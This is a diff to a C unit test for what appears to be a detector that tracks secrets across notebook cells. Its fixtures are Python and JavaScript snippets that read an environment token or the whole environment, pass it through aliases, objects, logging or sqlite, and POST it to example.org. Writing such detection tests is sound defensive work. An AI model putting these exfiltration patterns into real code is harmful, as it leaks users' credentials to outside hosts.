@@ -199,10 +199,103 @@ static void power_that_travels_over_cells_is_found(void **state)
     check_travels("javascript", javascript, sizeof(javascript) / sizeof(javascript[0]));
 }
 
+#define IMPORTS "import os, requests, logging, sqlite3"
+#define TOKEN   "os.environ['SERVICE_TOKEN']"
+#define SEND    "requests.post('https://example.org/', json=a)"
+static const struct travel python_names[] = {
+    { { { NULL, IMPORTS "\na = []" },
+        { NULL, "b = a" },
+        { NULL, "b.append(" TOKEN ")" },
+        { NULL, SEND } } },
+    { { { NULL, IMPORTS },
+        { NULL, "b = a = []" },
+        { NULL, "b.append(" TOKEN ")" },
+        { NULL, SEND } } },
+    { { { NULL, IMPORTS "\na = {}" },
+        { NULL, "b = a" },
+        { NULL, "c = b" },
+        { NULL, "c['k'] = " TOKEN },
+        { NULL, SEND } } },
+    { { { NULL, IMPORTS "\nb = []" },
+        { NULL, "a = b" },
+        { NULL, "b.append(" TOKEN ")" },
+        { NULL, SEND } } },
+    { { { NULL, IMPORTS "\na = []\nclass C: pass\no = C()" },
+        { NULL, "o.x = a" },
+        { NULL, "o.x.append(" TOKEN ")" },
+        { NULL, SEND } } },
+    { { { NULL, IMPORTS "\na = []\nd = {}" },
+        { NULL, "d['x'] = a" },
+        { NULL, "d['x'].append(" TOKEN ")" },
+        { NULL, SEND } } },
+    { { { NULL, IMPORTS "\na = []" },
+        { NULL, "d = {'x': a}" },
+        { NULL, "d['x'].append(" TOKEN ")" },
+        { NULL, SEND } } },
+    { { { NULL, IMPORTS "\nb = []" },
+        { NULL, "a = {'x': b}" },
+        { NULL, "b.append(" TOKEN ")" },
+        { NULL, SEND } } },
+    { { { NULL, IMPORTS "\na = []" },
+        { NULL, "b, c = a, 1" },
+        { NULL, "b.append(" TOKEN ")" },
+        { NULL, SEND } } },
+    { { { NULL, IMPORTS "\na = []\nb = a" },
+        { NULL, "def f(x): b.append(x)" },
+        { NULL, "f(" TOKEN ")" },
+        { NULL, SEND } } },
+    { { { NULL, IMPORTS "\nclass C:\n    def __init__(self, out): self.out = out\n"
+                        "    def run(self): self.out.append(" TOKEN ")\na = []" },
+        { NULL, "c = C(a)" },
+        { NULL, "c.run()" },
+        { NULL, SEND } } },
+    { { { NULL, IMPORTS "\nlogging.basicConfig(filename='x.log')" },
+        { NULL, "logging.info(os.environ)" },
+        { NULL, "a = open('x.log').read()" },
+        { NULL, SEND } } },
+    { { { NULL, IMPORTS "\ncon = sqlite3.connect('a.db')" },
+        { NULL, "con.execute('insert into t values (?)', (" TOKEN ",))" },
+        { NULL, "a = con.execute('select * from t').fetchall()" },
+        { NULL, SEND } } },
+    { { { NULL, IMPORTS "\nclass C: pass\no = C()" },
+        { NULL, "setattr(o, 'k', " TOKEN ")" },
+        { NULL, "a = vars(o)" },
+        { NULL, SEND } } },
+};
+#undef SEND
+#define SEND "fetch('https://example.org/', { method: 'POST', body: JSON.stringify(a) })"
+static const struct travel javascript_names[] = {
+    { { { NULL, "const a = []" },
+        { NULL, "const b = a" },
+        { NULL, "b.push(process.env.SERVICE_TOKEN)" },
+        { NULL, SEND } } },
+    { { { NULL, "const a = [], o = {}" },
+        { NULL, "o.x = a" },
+        { NULL, "o.x.push(process.env.SERVICE_TOKEN)" },
+        { NULL, SEND } } },
+    { { { NULL, "var a, b" },
+        { NULL, "a = b = []" },
+        { NULL, "b.push(process.env.SERVICE_TOKEN)" },
+        { NULL, SEND } } },
+    { { { NULL, "const a = {}" },
+        { NULL, "Reflect.set(a, 'k', process.env.SERVICE_TOKEN)" },
+        { NULL, SEND } } },
+};
+
+/* b = a in one cell, b.append(secret) in another: then `a` holds the secret. */
+static void secrets_that_travel_under_other_names_are_found(void **state)
+{
+    (void)state;
+    check_travels("ipython", python_names, sizeof(python_names) / sizeof(python_names[0]));
+    check_travels("javascript", javascript_names,
+                  sizeof(javascript_names) / sizeof(javascript_names[0]));
+}
+
 int main(void)
 {
     const struct CMUnitTest tests[] = {
         cmocka_unit_test(power_that_travels_over_cells_is_found),
+        cmocka_unit_test(secrets_that_travel_under_other_names_are_found),
     };
     return cmocka_run_group_tests(tests, set_up, tear_down);
 }
